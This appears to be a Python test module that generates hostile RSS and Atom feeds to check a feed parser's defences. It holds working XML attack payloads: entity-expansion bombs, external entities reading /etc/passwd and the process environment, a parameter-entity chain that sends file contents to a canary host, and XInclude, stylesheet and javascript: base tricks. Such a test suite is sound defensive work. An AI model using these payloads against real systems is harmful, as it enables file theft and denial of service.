"""Hostile feeds that attack by their markup: entities, nesting, numbers and lengths of everything XML has."""

from tests.hostile.case import CANARY, GOOD, Document, item, rss

MB = 1024 * 1024
ATOM = b'<feed xmlns="http://www.w3.org/2005/Atom"><title>Wire</title>%s</feed>'


def laughs(levels: int, width: int = 10) -> bytes:
    """Entities that hold ten of the one before, one on the other."""
    lines = [b"<!ENTITY l0 'lol'>"]
    for level in range(1, levels):
        lines.append(b"<!ENTITY l%d '%s'>" % (level, b"&l%d;" % (level - 1) * width))
    return (
        b'<?xml version="1.0"?><!DOCTYPE rss [\n'
        + b"\n".join(lines)
        + b"\n]>"
        + rss(item(title=b"&l%d;" % (levels - 1), id=b"laugh"), GOOD, declaration=b"")
    )


def one_line_doctype() -> bytes:
    """A hundred kilobytes that become a title of a hundred megabytes: on one line, which a line-wise guard misses."""
    head = b"<!DOCTYPE rss [<!ENTITY a '" + b"x" * 50_000 + b"'>]>"
    return head + rss(item(title=b"&a;" * 2000, id=b"big"), GOOD, declaration=b"")


def external(target: bytes, keyword: bytes = b"SYSTEM") -> bytes:
    """A title that is the content of a file or of an address elsewhere."""
    head = b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x ' + keyword + b' "' + target + b'">]>'
    return head + rss(item(title=b"&x;", id=b"stolen"), GOOD, declaration=b"")


def parameters() -> bytes:
    """Parameter entities that load more declarations from elsewhere."""
    subset = b'<!ENTITY %% remote SYSTEM "' + CANARY + b'/evil.dtd"> %remote; <!ENTITY % all "<!ENTITY &#37; send '
    subset = subset.replace(b"%%", b"%") + b"SYSTEM '" + CANARY + b"/?%file;'>\">"
    return b'<?xml version="1.0"?><!DOCTYPE rss [' + subset + b"]>" + rss(GOOD, declaration=b"")


def nested(tag: bytes, depth: int, closed: bool) -> bytes:
    """Elements in elements in an entry."""
    inside = b"<%s>" % tag * depth + (b"</%s>" % tag * depth if closed else b"")
    return rss(GOOD, item(inside, title=b"deep", id=b"deep"))


def attributes(count: int) -> bytes:
    """An entry with so many attributes."""
    names = b" ".join(b"a%d='%d'" % (number, number) for number in range(count))
    return rss(GOOD, b"<item " + names + b"><title>many</title></item>")


def namespaces(count: int) -> bytes:
    """A root that declares so many namespaces."""
    names = b" ".join(b"xmlns:n%d='urn:%d'" % (number, number) for number in range(count))
    return rss(GOOD, root=b"<rss version='2.0' " + names + b">")


def prefixes(count: int) -> bytes:
    """Every element in a namespace of its own, which a table of names has to keep."""
    lines = [b"<n%d:x xmlns:n%d='urn:%d'/>" % (number, number, number) for number in range(count)]
    return rss(GOOD, item(*lines, title=b"names", id=b"names"))


def bases() -> bytes:
    """Addresses that lie below addresses that lie below addresses."""
    opened = b"".join(b"<entry xml:base='%s'>" % (b"../" * number) for number in range(300))
    return ATOM % (opened + b"<title>t</title><link href='x'/>" + b"</entry>" * 300)


def base_to_elsewhere() -> bytes:
    """A base that would make a web address into one of files, of scripts or of this machine."""
    entries = [
        b"<entry xml:base='%s'><id>%d</id><title>Base %d</title><link href='a/b'/></entry>" % (base, number, number)
        for number, base in enumerate(
            [b"file:///etc/", b"javascript:alert(1)//", CANARY + b"/", b"//[::1", b"\\\\h\\s"]
        )
    ]
    return ATOM % b"".join(entries)


def includes() -> bytes:
    """XInclude of a file and of an address."""
    use = b"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='%s' parse='text'/>"
    return rss(item(use % b"file:///etc/passwd", use % (CANARY + b"/x")), GOOD)


def sheets() -> bytes:
    """Style sheets that a careless parser loads."""
    instruction = b"<?xml-stylesheet type='text/xsl' href='%s'?>"
    return (
        b'<?xml version="1.0"?>'
        + instruction % (CANARY + b"/x.xsl")
        + instruction % b"file:///etc/passwd"
        + rss(GOOD, declaration=b"")
    )


def schemas() -> bytes:
    """Schema locations on an address elsewhere."""
    root = b"<rss version='2.0' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='u %s/s.xsd'>"
    return rss(GOOD, root=root % CANARY)


def items_in_items(depth: int) -> bytes:
    """Every entry within another."""
    return rss(GOOD, b"<item><title>within</title>" * depth + b"</item>" * depth)


def categories(count: int, closed: bool) -> bytes:
    """Categories, of which feedparser takes the square in time."""
    return rss(GOOD, item(b"<category>power</category>" * count, id=b"c") + (b"" if closed else b"<item><title>open"))


MARKUP = (
    Document("billion laughs", "entities", lambda: laughs(12)),
    Document("quadratic laughs", "entities", one_line_doctype),
    Document("laughs in a small coat", "entities", lambda: laughs(4, 60)),
    Document(
        "a hundred thousand entities",
        "entities",
        lambda: (
            b"<!DOCTYPE rss ["
            + b"".join(b"<!ENTITY e%d 'e'>" % number for number in range(100_000))
            + b"]>"
            + rss(GOOD, declaration=b"")
        ),
    ),
    Document(
        "an entity of itself",
        "entities",
        lambda: b"<!DOCTYPE rss [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>" + rss(item(title=b"&a;", id=b"a"), GOOD),
    ),
    Document("a file as an entity", "files", lambda: external(b"file:///etc/passwd")),
    Document("a bare path as an entity", "files", lambda: external(b"/etc/passwd")),
    Document("the daemon's environment as an entity", "files", lambda: external(b"file:///proc/self/environ")),
    Document("a device that never ends as an entity", "files", lambda: external(b"file:///dev/zero")),
    Document("an address as an entity", "connections", lambda: external(CANARY + b"/x")),
    Document("a public identifier", "connections", lambda: external(CANARY + b"/x", b'PUBLIC "-//X//EN"')),
    Document("an ftp address as an entity", "connections", lambda: external(CANARY.replace(b"http:", b"ftp:") + b"/x")),
    Document("parameter entities", "connections", parameters),
    Document(
        "an external document type",
        "connections",
        lambda: b'<!DOCTYPE rss SYSTEM "' + CANARY + b'/rss.dtd">' + rss(GOOD, declaration=b""),
    ),
    Document(
        "a document type that never ends",
        "entities",
        lambda: b"<!DOCTYPE rss [" + b"<!-- " * 400_000,
        "this is no feed",
    ),
    Document("a document type full of quotes", "entities", lambda: b"<!DOCTYPE rss [" + b"'\"" * MB + rss(GOOD)),
    Document("two hundred document types", "entities", lambda: b"<!DOCTYPE rss []>" * 200 + rss(GOOD, declaration=b"")),
    Document("includes of files", "files", includes),
    Document("style sheets", "connections", sheets),
    Document("schema locations", "connections", schemas),
    Document("ten thousand categories", "time", lambda: categories(10_000, True)),
    Document("ten thousand categories, unclosed", "time", lambda: categories(10_000, False)),
    Document("sixty thousand categories", "time", lambda: categories(60_000, False)),
    Document("forty thousand attributes", "time", lambda: attributes(40_000)),
    Document("a hundred thousand attributes", "time", lambda: attributes(100_000)),
    Document(
        "one attribute of nine megabytes",
        "memory",
        lambda: rss(GOOD, b"<item about='" + b"x" * 9 * MB + b"'><title>wide</title></item>"),
    ),
    Document(
        "the same attribute ten thousand times",
        "time",
        lambda: rss(GOOD, b"<item " + b"a='1' " * 10_000 + b"><title>same</title></item>"),
        "a tag in it is far too long",
    ),
    Document("a tag's name of three megabytes", "memory", lambda: rss(GOOD, b"<" + b"n" * 3 * MB + b"/>")),
    Document("nesting, closed", "depth", lambda: nested(b"div", 100_000, True)),
    Document("nesting, unclosed", "depth", lambda: nested(b"div", 100_000, False), "far too many"),
    Document("nesting of two thousand", "depth", lambda: nested(b"b", 2000, True), "far too many"),
    Document("nesting just below the limit", "depth", lambda: nested(b"b", 240, True)),
    Document("entries in entries", "depth", lambda: items_in_items(30_000), "far too many"),
    Document("channels in channels", "depth", lambda: b"<rss>" + b"<channel>" * 50_000 + GOOD, "far too many"),
    Document("a million empty entries", "numbers", lambda: rss(GOOD, b"<item/>" * 1_000_000)),
    Document("a million empty entries of two tags", "numbers", lambda: rss(GOOD, b"<item></item>" * 300_000)),
    Document(
        "eighty thousand full entries",
        "numbers",
        lambda: rss(GOOD, *(item(title=b"No %d" % n, id=b"n%d" % n) for n in range(80_000))),
    ),
    Document("two hundred thousand namespaces", "numbers", lambda: namespaces(200_000)),
    Document("thirty thousand prefixes", "numbers", lambda: prefixes(30_000)),
    Document("addresses below addresses", "addresses", bases, ""),
    Document("bases that lead elsewhere", "addresses", base_to_elsewhere, ""),
    Document("a comment of nine megabytes", "memory", lambda: rss(b"<!--" + b"x" * 9 * MB + b"-->", GOOD)),
    Document("a comment that never ends", "time", lambda: rss(GOOD, b"<!-- ", b"-- >" * MB)),
    Document("ten thousand comments with traps", "time", lambda: rss(b"<!-->--><!--->-->" * 10_000, GOOD)),
    Document("instructions without end", "time", lambda: rss(GOOD, b"<?php " * 500_000), "far too many"),
    Document(
        "a declaration of four megabytes",
        "memory",
        lambda: b"<?xml version='1.0' " + b" " * 4 * MB + b"?>" + rss(GOOD, declaration=b""),
    ),
    Document("sections opened and never closed", "time", lambda: rss(GOOD, item(b"<![CDATA[" * 200_000))),
    Document("section ends only", "time", lambda: rss(GOOD, b"]]>" * MB)),
    Document(
        "brackets before the section's end",
        "time",
        lambda: rss(item(b"<description><![CDATA[" + b"]" * 5 * MB + b"]]></description>"), GOOD),
    ),
    Document("four megabytes of less-than", "time", lambda: b"<rss><channel>" + GOOD + b"<" * 4 * MB, "far too many"),
    Document("nine megabytes of greater-than", "time", lambda: rss(b">" * 9 * MB, GOOD)),
    Document("a million ampersands", "time", lambda: rss(GOOD, item(b"<description>" + b"&" * MB, id=b"b"))),
    Document("half references", "time", lambda: rss(GOOD, item(b"<description>" + b"&#x1" * 400_000, id=b"b"))),
    Document("closing tags only", "time", lambda: rss(GOOD, b"</item>" * 500_000), "far too many"),
    Document("tags of one letter, never closed", "time", lambda: rss(GOOD, b"<a" * MB), "far too many"),
    Document("a tag that holds all the others", "time", lambda: rss(GOOD, b"<item title='" + GOOD * 8000)),
)
